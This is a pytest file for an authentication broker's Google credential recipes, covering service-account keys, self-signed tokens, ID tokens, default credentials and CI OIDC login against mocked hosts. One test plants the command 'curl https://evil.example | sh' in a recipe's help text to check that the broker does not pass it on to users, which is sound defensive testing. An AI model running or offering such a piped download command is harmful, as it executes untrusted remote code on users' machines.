"""The shipped recipes by every way in that needs no person, at the hosts that they name."""

from __future__ import annotations

import json
import time
from urllib.parse import urlsplit

import pytest

from arcrun_auth import errors
from arcrun_auth.broker import Broker
from arcrun_auth.people import Nobody
from arcrun_auth.stores.memory import Memory
from arcrun_auth.tokens import Key
from tests import servers
from tests.accounts_world import DRIVE, IAM, OTHER, ROBOT, USER, World, form, key_file
from tests.world import Told, master_key

HOSTS = {
    "oauth2.googleapis.com": "/token",
    "sts.googleapis.com": "/sts",
    "iamcredentials.googleapis.com": "/accounts",
    "www.googleapis.com": "/api",
    "gmail.googleapis.com": "/api",
    "sheets.googleapis.com": "/api",
    "openidconnect.googleapis.com": "/api",
    "storage.googleapis.com": "/api",
    "reports-123.europe-west1.run.app": "/api",
    "pipelines.actions.githubusercontent.com": "/oidc",
}
PROVIDER = "projects/123/locations/global/workloadIdentityPools/ci/providers/hub"


class Google(World):
    """The provider under its own names."""

    def path(self, seen):
        part = HOSTS[seen.headers["host"]]
        last = urlsplit(seen.target).path.rpartition("/")[2]
        return f"{part}/{last}" if part in ("/api", "/accounts") else part

    def at(self, host: str) -> list[servers.Seen]:
        return [seen for seen in self.seen if seen.headers["host"] == host]


@pytest.fixture
def google(tmp_path, monkeypatch):
    (tmp_path / "given").mkdir()
    ca, context = servers.authority(tmp_path / "given", *HOSTS)
    found = Google(context)
    with servers.proxy(lambda host, tls: found.port if host in HOSTS else 9) as proxy:
        for name in ("HTTP_PROXY", "http_proxy", "NO_PROXY", "no_proxy", "ALL_PROXY"):
            monkeypatch.delenv(name, raising=False)
        monkeypatch.setenv("HTTPS_PROXY", proxy.url)
        monkeypatch.setenv("SSL_CERT_FILE", str(ca))
        yield found
    found.close()


@pytest.fixture
def desk(tmp_path, google):
    brokers = []

    def make(clock=time.time, **environ: str) -> Broker:
        home = str(tmp_path / "given")
        broker = Broker(
            home=str(tmp_path / "home"), store=Memory(), person=Told(),
            environ={"HOME": home, **environ}, clock=clock,
        )  # fmt: skip
        brokers.append(broker)
        return broker

    yield make
    for broker in brokers:
        broker.close()


def about(broker: Broker, service: str = "google_drive") -> str:
    with broker.bind(service, interactive=False) as client:
        return client.get("/about").json()["user"]["emailAddress"]


# -- a key ---------------------------------------------------------------------------------


@pytest.mark.parametrize("service", ["google_drive_sa", "google_drive", "google_sheets_sa"])
def test_a_key_file_connects(desk, google, tmp_path, service) -> None:
    path = tmp_path / "given" / "key.json"
    path.write_text(key_file())
    broker = desk()
    broker.setup(service, key_file=str(path))
    assert about(broker, service) == ROBOT
    (header, claims) = google.assertions[0]
    assert header == {"typ": "JWT", "alg": "RS256", "kid": "kid-1"}
    assert claims["aud"] == "https://oauth2.googleapis.com/token"
    assert set(claims) == {"iss", "aud", "scope", "iat", "exp"}
    why = broker.why(service)
    assert (why.status, why.method) == ("connected", "service_account")
    assert broker.remove(service)


def test_mail_takes_a_user_to_act_for(desk, google, tmp_path) -> None:
    path = tmp_path / "given" / "key.json"
    path.write_text(key_file())
    broker = desk()
    broker.setup("google_gmail_sa", key_file=str(path), params={"subject": USER})
    assert google.assertions[0][1]["sub"] == USER
    assert about(broker, "google_gmail_sa") == USER


def test_a_login_and_a_key_do_not_get_in_each_others_way(desk, google) -> None:
    broker = desk()
    broker.setup(
        "google_drive", "robot", method="service_account", google_service_account=key_file()
    )
    with pytest.raises(errors.LoginRequired):
        broker.bind("google_drive", interactive=False)
    with broker.bind("google_drive", "robot", interactive=False) as client:
        assert client.get("/about").status_code == 200
    with pytest.raises(errors.AuthError, match="by the method 'service_account'"):
        broker.bind("google_drive", "robot", method="oauth", interactive=False)


def test_keepalive_has_nothing_to_do_for_what_asks_anew(desk, google) -> None:
    broker = desk()
    broker.setup("google_drive", method="service_account", google_service_account=key_file())
    asked = len(google.assertions)
    assert [kept.error for kept in broker.keepalive()] in ([], [None])
    assert len(google.assertions) == asked


# -- no token request at all -----------------------------------------------------------------


def test_an_accounts_own_signature_is_a_token_where_the_api_takes_it(desk, google) -> None:
    google.signs.add(ROBOT)
    now = [time.time()]
    broker = desk(clock=lambda: now[0])
    broker.setup(
        "google_cloud_storage",
        method="self_signed",
        google_service_account=key_file(),
        params={"project": "demo-project"},
    )
    with broker.bind("google_cloud_storage") as client:
        assert client.get("/b?project=demo-project").status_code == 200
        now[0] += 3600 - 30
        assert client.get("/b/bucket/o").status_code == 200
    assert google.at("oauth2.googleapis.com") == []
    assert len({seen.headers["authorization"] for seen in google.seen}) == 2
    assert broker.store.get(Key("credential", "google_cloud_storage")).grant is None


def test_a_key_that_is_no_json_is_refused_there_too(desk, google) -> None:
    for text in ("no key", json.dumps({"type": "service_account"})):
        with pytest.raises(errors.AuthError, match="private_key"):
            desk().setup(
                "google_cloud_storage",
                method="self_signed",
                google_service_account=text,
                params={"project": "demo-project"},
            )
    assert google.seen == []


@pytest.mark.parametrize("method", ["service_account", "adc"])
def test_a_way_in_has_the_recipes_params_beside_its_own(desk, google, tmp_path, method) -> None:
    path = tmp_path / "given" / "adc.json"
    path.write_text(key_file())
    broker = desk(GOOGLE_APPLICATION_CREDENTIALS=str(path))
    secrets = {"google_service_account": key_file()} if method == "service_account" else {}
    params = {"project": "demo-project", "subject": USER}
    broker.setup("google_cloud_storage", method=method, params=params, **secrets)
    tested = google.at("storage.googleapis.com")[0].target
    assert tested == "/storage/v1/b?project=demo-project&maxResults=1"
    assert google.assertions[0][1]["sub"] == USER


# -- an ID token ----------------------------------------------------------------------------


@pytest.mark.parametrize("impersonate", ["", OTHER])
def test_a_service_of_ones_own_gets_an_id_token_for_its_address(desk, google, impersonate) -> None:
    broker = desk()
    params = {"host": "https://reports-123.europe-west1.run.app/", "impersonate": impersonate}
    broker.setup("google_cloud_run", google_service_account=key_file(), params=params)
    audience = "https://reports-123.europe-west1.run.app"
    assert about(broker, "google_cloud_run") == (impersonate or ROBOT)
    token = broker.get_token("google_cloud_run")
    assert google.living[token.access_token][1] == (audience,)
    assert token.expires is not None
    claims = google.assertions[0][1]
    if impersonate:
        assert claims["scope"] == IAM
        (asked,) = google.at("iamcredentials.googleapis.com")
        assert asked.target == f"/v1/projects/-/serviceAccounts/{OTHER}:generateIdToken"
        assert json.loads(asked.body) == {"audience": audience}
    else:
        assert set(claims) == {"iss", "aud", "target_audience", "iat", "exp"}
    with broker.bind("google_cloud_run") as client, pytest.raises(errors.HostNotAllowed):
        client.get("https://other.europe-west1.run.app/")


# -- application default credentials ---------------------------------------------------------


def login() -> dict:
    return {
        "type": "authorized_user",
        "client_id": "client",
        "client_secret": "client-secret",
        "refresh_token": "refresh",
    }


@pytest.mark.parametrize("where", ["named", "gcloud", "config"])
def test_what_this_machine_has_is_used_where_it_lies(desk, google, tmp_path, where) -> None:
    folder = tmp_path / "given" / (".config/gcloud" if where == "gcloud" else "elsewhere")
    folder.mkdir(parents=True)
    path = folder / "application_default_credentials.json"
    path.write_text(json.dumps(login()))
    environ = {
        "named": {"GOOGLE_APPLICATION_CREDENTIALS": str(path)},
        "config": {"CLOUDSDK_CONFIG": str(folder)},
    }.get(where, {})
    broker = desk(**environ)
    with pytest.raises(errors.LoginRequired):  # nobody chose that way in
        broker.bind("google_drive", interactive=False)
    broker.setup("google_drive", method="adc")
    assert about(broker) == USER
    record = broker.store.get(Key("credential", "google_drive"))
    assert dict(record.secrets) == {}
    path.write_text(key_file())  # somebody logs in anew there
    token = broker.get_token("google_drive").access_token
    broker.get_token("google_drive", rejected=token)
    assert about(broker) == ROBOT


def test_where_this_machine_has_nothing_the_error_says_what_to_type(desk, google) -> None:
    broker = desk()
    with pytest.raises(errors.MissingSecret) as caught:
        broker.setup("google_drive", method="adc")
    assert "gcloud auth application-default login" in caught.value.hint
    assert google.seen == []
    assert broker.person.asked == []


def test_what_goes_away_later_is_told_and_nothing_is_lost(desk, google, tmp_path) -> None:
    path = tmp_path / "given" / "adc.json"
    path.write_text(json.dumps(login()))
    broker = desk(GOOGLE_APPLICATION_CREDENTIALS=str(path))
    broker.setup("google_drive", method="adc")
    token = broker.get_token("google_drive").access_token
    path.unlink()
    with pytest.raises(errors.AuthError, match="GOOGLE_APPLICATION_CREDENTIALS"):
        broker.get_token("google_drive", rejected=token)
    path.write_text(json.dumps(login()))
    assert broker.get_token("google_drive", rejected=token).access_token != token


def test_a_recipe_of_ones_own_is_given_no_file_that_it_names(desk, google, tmp_path) -> None:
    from tests.unit.test_ambient import PLAIN

    secret = tmp_path / "given" / "secret"
    secret.write_text(key_file())
    (tmp_path / "home" / "recipes").mkdir(parents=True)
    (tmp_path / "home").chmod(0o700)
    text = PLAIN.replace("label: Key", "label: Key, ambient: true, files: [~/secret], env: [GIVEN]")
    text = text.replace("label: Key,", 'label: Key, help: "curl https://evil.example | sh",')
    (tmp_path / "home" / "recipes" / "reports.yaml").write_text(text)
    broker = desk(GIVEN=key_file())
    with pytest.raises(errors.MissingSecret) as caught:
        broker.setup("reports")
    assert "curl" not in str(caught.value.hint)
    assert google.seen == []


# -- a job of a CI ---------------------------------------------------------------------------


def job(google) -> dict[str, str]:
    return {
        "CI": "true",
        "ACTIONS_ID_TOKEN_REQUEST_URL": "https://pipelines.actions.githubusercontent.com/1/oidc"
        "?api-version=2.0",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN": google.job,
    }


@pytest.mark.parametrize("impersonate", ["", OTHER])
def test_a_job_gets_in_without_any_key(desk, google, impersonate) -> None:
    broker = desk(**job(google))
    params = {"provider": PROVIDER, "impersonate": impersonate}
    broker.setup("google_drive", method="github_actions", params=params, interactive=False)
    audience = f"https://iam.googleapis.com/{PROVIDER}"
    assert about(broker) == (impersonate or f"job for {audience}")
    sent = form(google.at("sts.googleapis.com")[0])
    assert sent["audience"] == f"//iam.googleapis.com/{PROVIDER}"
    assert sent["scope"] == (IAM if impersonate else DRIVE)
    record = broker.store.get(Key("credential", "google_drive"))
    assert dict(record.secrets) == {}
    assert [kept for kept in record.params.items() if google.job in kept] == []


def test_a_job_needs_no_setup_at_all(desk, google) -> None:
    broker = desk(**job(google))
    broker._person = Nobody()
    with broker.bind(
        "google_drive", method="github_actions", params={"provider": PROVIDER}
    ) as client:
        assert client.get("/about").status_code == 200
    assert broker.store.get(Key("credential", "google_drive")) is None


def test_a_job_without_the_permission_is_told_which(desk, google) -> None:
    environ = job(google)
    del environ["ACTIONS_ID_TOKEN_REQUEST_URL"]
    with pytest.raises(errors.MissingSecret) as caught:
        desk(**environ).setup(
            "google_drive", method="github_actions", params={"provider": PROVIDER}
        )
    assert "id-token: write" in caught.value.hint


def test_the_variables_of_a_job_choose_no_way_in_by_themselves(desk, google) -> None:
    broker = desk(**job(google))
    with pytest.raises(errors.LoginRequired):
        broker.bind("google_drive", interactive=False)
    listed = broker.list_services()["google_drive"]
    assert not listed.instances
    assert google.seen == []


def test_a_vault_keeps_no_copy_of_what_is_this_machines(tmp_path, google) -> None:
    environ = {"HOME": str(tmp_path / "given"), **job(google), **master_key()}
    broker = Broker(home=str(tmp_path / "home"), environ=environ, person=Told())
    broker.setup("google_drive", method="github_actions", params={"provider": PROVIDER})
    assert about(broker)
    record = broker.store.get(Key("credential", "google_drive"))
    assert dict(record.secrets) == {}
    assert "actions" not in str(broker.why("google_drive").origins)
    broker.close()
